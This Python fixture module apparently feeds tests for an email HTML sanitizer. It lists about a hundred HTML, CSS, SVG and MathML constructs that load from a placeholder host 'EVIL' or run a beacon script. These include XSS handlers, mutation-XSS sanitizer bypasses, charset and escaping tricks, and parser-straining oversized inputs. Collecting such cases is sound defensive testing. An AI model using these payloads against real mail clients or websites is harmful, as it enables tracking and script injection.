# ruff: noqa: E501 - a construct is read best in one line
"""Constructs by which the HTML of a mail tries to contact somebody or to run something; `EVIL` is who listens."""

from collections.abc import Mapping
from typing import Final

# What a mail puts where it wants to be noticed: a script that runs would ask for this.
_RUN: Final = "new Image().src='EVIL/run'"

CONSTRUCTS: Final[Mapping[str, str]] = {
    # CSS
    "css import": '<style>@import "EVIL/a.css"; @import url(EVIL/b.css);</style>',
    "css import escaped": '<style>@\\69mport "EVIL/a"; @im\\port url("EVIL/b"); @i\\000006dport \'EVIL/c\';</style>',
    "css import in a comment": '<style><!-- @import "EVIL/a"; --> /* */@import/**/"EVIL/b"/**/;</style>',
    "css import with layer": '<style>@import "EVIL/a" layer(x) supports(display: grid) screen;</style>',
    "css url escaped": '<p style="background:u\\72l(EVIL/a);background:\\75\\72\\6c(EVIL/b)">x</p>',
    "css url with comments": '<p style="background:url/**/(EVIL/a);background:/**/url(/**/EVIL/b)">x</p>',
    "css url with NULs": '<p style="background:u\0rl(EVIL/a);back\0ground:url(\0EVIL/b)">x</p>',
    "css url with line ends": "<p style=\"background:\nurl\n(EVIL/a);background:url(\n'EVIL/b'\n)\">x</p>",
    "css url in references": '<p style="background&#58;&#117;rl&lpar;EVIL/a&rpar;;background:u&#x72;l&#40;EVIL/b)">x</p>',
    "css url in capitals": '<p style="BACKGROUND:URL(EVIL/a);list-style:uRl(EVIL/b)">x</p>',
    "css url not closed": "<p style=\"background:url('EVIL/a\">x</p><p style='background:url(EVIL/b'>y</p>",
    "css url around url": '<p style="background:uurl(x)rl(EVIL/a);background:ur@import;l(EVIL/b)">x</p>',
    "css image-set": "<p style=\"background:image-set('EVIL/a' 1x);background:-webkit-image-set(url(EVIL/b) 1x)\">x</p>",
    "css cross-fade": "<p style=\"background:-webkit-cross-fade(url(EVIL/a),url(EVIL/b),50%);content:image('EVIL/c')\">x</p>",
    "css cursor": '<p style="cursor:url(EVIL/a),auto;list-style-image:url(EVIL/b)">x</p>',
    "css list": '<ul style="list-style:square url(EVIL/a)"><li style="display:list-item">x</ul>',
    "css masks": '<p style="-webkit-mask-image:url(EVIL/a);mask:url(EVIL/b#m);clip-path:url(EVIL/c#c)">x</p>',
    "css shapes": '<p style="shape-outside:url(EVIL/a);float:left;border-image:url(EVIL/b) 30">x</p>',
    "css filter": '<p style="filter:url(EVIL/a#f);backdrop-filter:url(EVIL/b#f);-webkit-filter:url(EVIL/c#f)">x</p>',
    "css content": '<style>p::before { content: url(EVIL/a) } p::marker { content: url("EVIL/b") }</style><p>x</p>',
    "css reflection": '<p style="-webkit-box-reflect:below 1px url(EVIL/a);-webkit-border-image:url(EVIL/b) 1">x</p>',
    "css variables": '<style>:root{--a:url(EVIL/a);--b:"EVIL/b"}p{background:var(--a);background:image-set(var(--b) 1x)}'
    '</style><p style="--c:url(EVIL/c);background-image:var(--c)">x</p>',
    "css property": '<style>@property --x{syntax:"<url>";inherits:false;initial-value:url(EVIL/a)}p{background:var(--x)}'
    "</style><p>x</p>",
    "css font": "<style>@font-face{font-family:x;src:url(EVIL/a.woff2),local(x)}p{font-family:x}</style><p>x</p>",
    "css namespace": '<style>@namespace url(EVIL/a); @namespace x "EVIL/b"; @charset "EVIL/c";</style>',
    "css attr": '<style>p{background:attr(data-x type(<url>));content:attr(title url)}</style><p title="EVIL/a">x</p>',
    "css src": "<p style=\"background:src('EVIL/a');background:element(#x)\">x</p>",
    "css expression": f'<p style="width:expression({_RUN});behavior:url(EVIL/a);-moz-binding:url(EVIL/b)">x</p>',
    "css selectors": "<style>input[value^=a]{background:url(EVIL/a)}:visited{background:url(EVIL/b)}</style><input value=a>",
    "css that ends the style": f'<style>p{{}}</sty\\le><img src=EVIL/a></style><img src=x onerror="{_RUN}">',
    "css that ends in an attribute": f'<p style="x:&lt;/style&gt;&lt;script&gt;{_RUN}&lt;/script&gt;">x</p>',
    "css media": "<style media=screen>@media screen{p{background:url(EVIL/a)}}@supports (x:y){p{background:url(EVIL/b)}}</style>",
    "css type": '<style type="text/css" onload="RUN">@container (width>0){p{background:url(EVIL/a)}}</style><p>x</p>',
    "css scope": "<style>@layer x{p{background:url(EVIL/a)}}@scope(p){:scope{background:url(EVIL/b)}}</style><p>x</p>",
    "css view": "<style>@view-transition{navigation:auto}::view-transition{background:url(EVIL/a)}</style>",
    # images and media
    "image": '<img src="EVIL/a"><image src="EVIL/b"><img/src=EVIL/c>',
    "image set": '<img srcset="EVIL/a 1x, EVIL/b 2x" sizes=100vw><img src=x lowsrc=EVIL/c dynsrc=EVIL/d longdesc=EVIL/e>',
    "image lazy": '<img loading=eager fetchpriority=high src="EVIL/a" crossorigin referrerpolicy=unsafe-url>',
    "image of a strange scheme": '<img src="//HOST/a"><img src="\thttp:HOST/b"><img src="htt\np://HOST/c"><img src="\\\\HOST\\d">',
    "image that fails": f'<img src=x onerror="{_RUN}"><img src onerror={_RUN}>',
    "image map": '<img usemap="#m" src=x><map name=m><area shape=default href="EVIL/a" ping="EVIL/b"></map>',
    "picture": '<picture><source srcset="EVIL/a"><source media="(min-width:1px)" srcset="EVIL/b"><img src=EVIL/c></picture>',
    "video": '<video poster="EVIL/a" src="EVIL/b" autoplay preload=auto><source src="EVIL/c"><track default src="EVIL/d"></video>',
    "audio": f'<audio src="EVIL/a" autoplay preload=auto onloadstart="{_RUN}"><source src="EVIL/b"></audio><bgsound src=EVIL/c>',
    "input image": '<input type=image src="EVIL/a"><input type=image src=x formaction="EVIL/b">',
    "backgrounds": '<body background="EVIL/a"><table background="EVIL/b"><tr background=EVIL/c><td background=EVIL/d>x</table>',
    # SVG and MathML
    "svg image": '<svg><image href="EVIL/a"/><image xlink:href="EVIL/b"/><use href="EVIL/c#x"/><use xlink:href="EVIL/d#x"/></svg>',
    "svg filter": '<svg><filter id=f><feImage href="EVIL/a"/></filter><rect filter="url(#f)" fill="url(EVIL/b#p)"/></svg>',
    "svg animation": '<svg><a><animate attributeName=href values="EVIL/a"/><set attributeName=href to="EVIL/b"/>x</a></svg>',
    "svg animation of an image": '<svg><image><set attributeName=href to="EVIL/a" begin=0s /></image></svg>',
    "svg script": f'<svg onload="{_RUN}"><script href="EVIL/a">{_RUN}</script><style>@import "EVIL/b";</style></svg>',
    "svg foreign": f'<svg><foreignObject><iframe src="EVIL/a"></iframe><img src=x onerror="{_RUN}"></foreignObject></svg>',
    "svg style": '<svg><style>&lt;/style&gt;&lt;img src=EVIL/a&gt;</style><rect style="fill:url(EVIL/b)"/></svg>',
    "svg cursor": '<svg><cursor href="EVIL/a"/><color-profile href="EVIL/b"/><font-face-uri href="EVIL/c"/></svg>',
    "mathml": '<math href="EVIL/a"><mi xlink:href="EVIL/b">x</mi><mglyph src="EVIL/c"/><maction actiontype="statusline#EVIL/d">y</maction></math>',
    "mutation by a glyph": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={_RUN}&gt;">',
    "mutation by a form": f'<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{_RUN}">',
    "mutation by a paragraph": f'<svg></p><style><a id="</style><img src=EVIL/a onerror={_RUN}>">',
    "mutation by a comment": f'<math><annotation-xml encoding="text/html"><style><!--</style><img src=x onerror={_RUN}>--></annotation-xml></math>',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript><noscript><img src=EVIL/a></noscript>',
    "mutation by a select": f'<select><template><style><!--</select><img src=x onerror="{_RUN}">--></style></template></select>',
    "mutation by raw text": f'<xmp><p id="</xmp><img src=EVIL/a>"></xmp><noembed><img src=EVIL/b></noembed><title><img src=EVIL/c></title>'
    f'<textarea></textarea ><img src=x onerror="{_RUN}"><noframes></noframes x><img src=x onerror="{_RUN}">',
    # frames and plug-ins
    "frame": '<iframe src="EVIL/a"></iframe><iframe srcdoc="&lt;img src=EVIL/b&gt;"></iframe><frameset><frame src=EVIL/c></frameset>',
    "frame without an end": '<iframe src="EVIL/a" loading=eager allow=* credentialless csp=x',
    "frame of a script": f'<iframe src="javascript:{_RUN}"></iframe><iframe src="data:text/html,<script>{_RUN}</script>"></iframe>',
    "fenced frame": '<fencedframe mode=opaque-ads src="EVIL/a"></fencedframe><portal src="EVIL/b"></portal><webview src=EVIL/c></webview>',
    "object": '<object data="EVIL/a" type=text/html><param name=movie value="EVIL/b"><embed src="EVIL/c"></object>',
    "applet": '<applet code=x codebase="EVIL/a" archive="EVIL/b"></applet><embed code=EVIL/c><isindex action=EVIL/d type=image src=EVIL/e>',
    # the head
    "refresh": '<meta http-equiv=refresh content="0;url=EVIL/a"><META HTTP-EQUIV="REFRESH" CONTENT="0; URL=\'EVIL/b\'">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="default-src *; report-uri EVIL/a"><meta http-equiv=x-dns-prefetch-control content=on>',
    "base": '<base href="EVIL/"><img src="a"><link rel=stylesheet href=b><a href=c target=_top>x</a>',
    "stylesheet": '<link rel=stylesheet href="EVIL/a"><link rel="alternate stylesheet" href=EVIL/b title=x><?xml-stylesheet href="EVIL/c"?>',
    "hints": '<link rel=dns-prefetch href="EVIL"><link rel=preconnect href="EVIL" crossorigin><link rel=prefetch href=EVIL/a>'
    '<link rel=preload as=image href=EVIL/b imagesrcset="EVIL/c 1x"><link rel=prerender href=EVIL/d><link rel=modulepreload href=EVIL/e>',
    "icons": '<link rel=icon href="EVIL/a"><link rel="apple-touch-icon" href=EVIL/b><link rel=manifest href="EVIL/c"><link rel=expect href=EVIL/d>',
    "html manifest": '<html manifest="EVIL/a" xmlns="EVIL/b"><head profile="EVIL/c"><link rel=pingback href=EVIL/d>',
    "speculation": '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["EVIL/a"]}],"prerender":[{"urls":["EVIL/b"]}]}</script>',
    "import map": f'<script type=importmap>{{"imports":{{"x":"EVIL/a"}}}}</script><script type=module>import "x";{_RUN}</script>',
    "script": f'<script>{_RUN}</script><script src="EVIL/a"></script><SCRIPT/x>{_RUN}</SCRIPT><script\n>{_RUN}</script\n>',
    "script split": f"<scr<script>ipt>{_RUN}</scr</script>ipt><<script>{_RUN}//<</script>",
    # forms and what is clicked by itself
    "form": '<form action="EVIL/a" id=f><input name=x autofocus><button formaction="EVIL/b" form=f>x</button></form>',
    "handlers": f'<body onload="{_RUN}" onpageshow="{_RUN}"><details open ontoggle="{_RUN}"><input autofocus onfocus="{_RUN}"></details>'
    f'<p style="animation:x 1s" onanimationstart="{_RUN}" oncontentvisibilityautostatechange="{_RUN}">x</p>',
    "handlers without blanks": f'<img/src="x"/onerror="{_RUN}"/><p/onmouseover={_RUN}><svg/onload={_RUN}>',
    "handlers behind quotes": f'<p title=\'"\' x=\'"\'onmouseover="{_RUN}" aria-"onfocus="{_RUN}" aria-x<img src=EVIL/a>x</p>',
    "popover": f'<p popover id=p ontoggle="{_RUN}">x</p><button popovertarget=p command=show-popover commandfor=p>y</button>',
    "links": f'<a href="javascript:{_RUN}">x</a><a href="EVIL/a" ping="EVIL/b" download attributionsrc="EVIL/c" target=_blank>y</a>',
    "attribution": '<img attributionsrc="EVIL/a" src="EVIL/b"><script attributionsrc=EVIL/c></script>',
    # templates and what is built later
    "template": f'<template><img src="EVIL/a" onerror="{_RUN}"></template><template shadowrootmode=open><img src="EVIL/b"><style>@import "EVIL/c";</style></template>',
    "shadow": '<p><template shadowrootmode=open shadowrootclonable><link rel=stylesheet href="EVIL/a"><slot></slot><img src=EVIL/b></template></p>',
    "element of its own": f'<x-y is=z onclick="{_RUN}" style="background:url(EVIL/a)"><img is=x src="EVIL/b"></x-y>',
    "conditional comments": f'<!--[if gte mso 9]><v:background><v:fill src="EVIL/a"/></v:background><![endif]--><![if !IE]><img src="EVIL/b"><![endif]>'
    f"<!--[if IE]><script>{_RUN}</script><![endif]--><!--[if true]><!--><img src=EVIL/c><!--<![endif]-->",
    "comments that end oddly": f'<!--><img src=EVIL/a>--><!---><img src=EVIL/b>--><!-- --!><img src=x onerror="{_RUN}"> --><!-- -- ><img src=EVIL/c>',
    "declarations": '<!DOCTYPE html SYSTEM "EVIL/a" [<!ENTITY x SYSTEM "EVIL/b">]>&x;<![CDATA[<img src=EVIL/c>]]><?php "EVIL/d" ?>',
    "outlook": '<v:rect xmlns:v="urn:x"><v:fill src="EVIL/a" type=frame /><o:OLEObject src="EVIL/b"/></v:rect><xml src="EVIL/c" id=x></xml>',
    # bytes
    "utf-7": f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-+ADw-img src=EVIL/a+AD4-",
    "utf-16": f"<\0i\0m\0g\0 \0s\0r\0c\0=\0E\0V\0I\0L\0>\0\ufeff<script>{_RUN}</script>",
    "iso-2022-jp": f'\x1b$B<img src=EVIL/a>\x1b(B<img alt="\x1b$B" src=x onerror="{_RUN}"\x1b(B"><meta charset=iso-2022-jp>',
    "charsets": f'<meta charset=utf-7><meta http-equiv=content-type content="text/html;charset=x-user-defined">\x8f\x8e<img src=x onerror="{_RUN}">',
    "blanks of other kinds": f"<img\x0csrc=EVIL/a\x0bonerror={_RUN}><p\u2028onclick={_RUN}><img\u00a0src=EVIL/b><img\x00src=EVIL/c>",
    "look-alikes": f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e<\u017fcript>{_RUN}</\u017fcript><\u212amg src=EVIL/a><img \u017frc=EVIL/b>",
    # size
    "deep": "<div>" * 6000 + '<img src="EVIL/a">' + "<b><i><table><tr><td>" * 600 + f'<img src=x onerror="{_RUN}">',
    "wide": "<table>" + "<tr>" + "<td>x" * 9000 + '<td background="EVIL/a">' + "</table>" + "<p title='x'" * 500,
    "many attributes": "<p "
    + " ".join(f"a{n}=EVIL/{n}" for n in range(3000))
    + f' style="background:url(EVIL/x)" onclick="{_RUN}">x</p>',
}
